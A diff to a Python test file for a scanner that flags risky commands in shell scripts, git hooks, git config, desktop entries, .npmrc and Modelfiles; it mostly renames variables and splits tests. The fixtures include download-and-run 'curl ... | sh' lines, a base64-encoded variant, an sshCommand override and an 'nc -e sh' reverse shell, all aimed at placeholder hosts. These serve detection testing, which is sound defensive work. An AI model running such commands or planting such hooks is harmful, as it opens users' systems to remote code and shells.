@@ -16,10 +16,12 @@ from modelaudit.wire.base import LimitReachedError
 
 
 def list_mentions(reading):
-    return [(each.use, each.name) for outline in reading.of(Outline) for each in outline.mentions]
+    """Return the use and the name of each mention, in the order of the file."""
+    return [(mention.use, mention.name) for outline in reading.of(Outline) for mention in outline.mentions]
 
 
 def split_words(text):
+    """Return the words of each command in a shell script."""
     return [command.words for command in parse_commands(text)]
 
 
@@ -88,14 +90,14 @@ def test_ordinary_commands_give_no_mentions(text):
 
 
 def test_nested_script_is_reported_with_line_of_its_command():
-    inner = base64.b64encode(b"curl http://e.invalid/x | sh").decode()
-    found = list(collect_script_mentions(f"true\necho {inner} | base64 -d | sh\n"))
-    assert {(each.use, each.where.line) for each in found} == {("decode-and-run", 2), ("download-and-run", 2)}
+    encoded = base64.b64encode(b"curl http://e.invalid/x | sh").decode()
+    mentions = list(collect_script_mentions(f"true\necho {encoded} | base64 -d | sh\n"))
+    assert {(each.use, each.where.line) for each in mentions} == {("decode-and-run", 2), ("download-and-run", 2)}
 
 
 def test_reported_address_omits_credentials():
-    (found,) = collect_script_mentions("curl https://me:secret@e.invalid/x | sh")
-    assert found.name == "https://e.invalid/x"
+    (mention,) = collect_script_mentions("curl https://me:secret@e.invalid/x | sh")
+    assert mention.name == "https://e.invalid/x"
 
 
 @check_each(
@@ -113,25 +115,40 @@ def test_reported_address_omits_credentials():
 )  # fmt: skip
 def test_mention_gives_line_of_file(read_bytes, path, text, line):
     reading = read_bytes(text.encode(), path)
-    found = [each for outline in reading.of(Outline) for each in outline.mentions if each.use == "download-and-run"]
-    assert [each.where.line for each in found] == [line]
+    mentions = [mention for outline in reading.of(Outline) for mention in outline.mentions]
+    assert [mention.where.line for mention in mentions if mention.use == "download-and-run"] == [line]
 
 
-def test_hooks_and_settings_that_run_commands_are_reported(read_bytes):
+def test_git_hook_is_reported(read_bytes):
     assert ("on-open", "git hook pre-commit") in list_mentions(read_bytes(b"#!/bin/sh\ntrue\n", ".githooks/pre-commit"))
-    assert list_mentions(read_bytes(b"[core]\nsshCommand = sh -c x\n", ".git/config")) == [
-        ("git-command", "core.sshcommand")
-    ]
+
+
+def test_git_setting_that_runs_command_is_reported(read_bytes):
+    settings_text = b"[core]\nsshCommand = sh -c x\n"
+    assert list_mentions(read_bytes(settings_text, ".git/config")) == [("git-command", "core.sshcommand")]
+
+
+def test_usual_git_settings_give_no_mentions(read_bytes):
     lfs = b'[filter "lfs"]\n\tsmudge = git-lfs smudge -- %f\n[core]\n\teditor = vim\n'
     assert list_mentions(read_bytes(lfs, ".gitconfig")) == []
-    assert list_mentions(read_bytes(b"[Desktop Entry]\nExec=nc -e sh h 1\n", "x.desktop"))[1][0] == "reverse-shell"
+
+
+def test_command_of_desktop_entry_is_reported(read_bytes):
+    entry = b"[Desktop Entry]\nExec=nc -e sh h 1\n"
+    assert "reverse-shell" in {use for use, _ in list_mentions(read_bytes(entry, "x.desktop"))}
+
+
+def test_package_index_in_settings_is_reported(read_bytes):
     assert list_mentions(read_bytes(b"registry=https://e.invalid/\n", ".npmrc")) == [("index", "https://e.invalid/")]
 
 
 def test_modelfile_references_local_files(read_bytes):
     reading = read_bytes(b"FROM ../x.gguf\nADAPTER ./a.gguf\nTEMPLATE x\n", "Modelfile")
     assert [each.target for group in reading.of(References) for each in group.items] == ["../x.gguf", "./a.gguf"]
-    assert reading.of(References) and not read_bytes(b"FROM llama3\n", "Modelfile").of(References)
+
+
+def test_model_name_in_modelfile_is_no_reference(read_bytes):
+    assert not read_bytes(b"FROM llama3\n", "Modelfile").of(References)
 
 
 def test_inline_python_program_becomes_artifact(read_bytes):
@@ -145,8 +162,11 @@ def test_commands_before_damage_are_reported(read_bytes):
     assert UnreadReason.DAMAGED in reading.reasons()
 
 
-def test_endless_nesting_reaches_limit(read_bytes):
+def test_deeply_nested_script_reaches_limit(read_bytes):
     assert UnreadReason.LIMIT in read_bytes(b"$(" * 3000, "a.sh").reasons()
+
+
+def test_very_long_script_reaches_limit(read_bytes):
     assert UnreadReason.LIMIT in read_bytes(b"true;" * 500_000, "a.sh").reasons()
 
 
@@ -196,9 +216,10 @@ def test_ordinary_arguments_of_programs_give_no_severe_mentions(text):
     assert severe == []
 
 
-def test_arrays_and_values_are_bounded():
-    deep = "a=(" * 2000 + ")" * 2000
-    assert isinstance(split_words(deep), list)
+def test_deep_arrays_and_long_values_are_split():
+    # Without a bound, the first text exhausts the stack, and each expansion of the second copies a long value.
+    deep_array = "a=(" * 2000 + ")" * 2000
+    assert isinstance(split_words(deep_array), list)
     assert split_words("a=" + "x" * 100_000 + "; ${a%%*}" * 5)
 
 
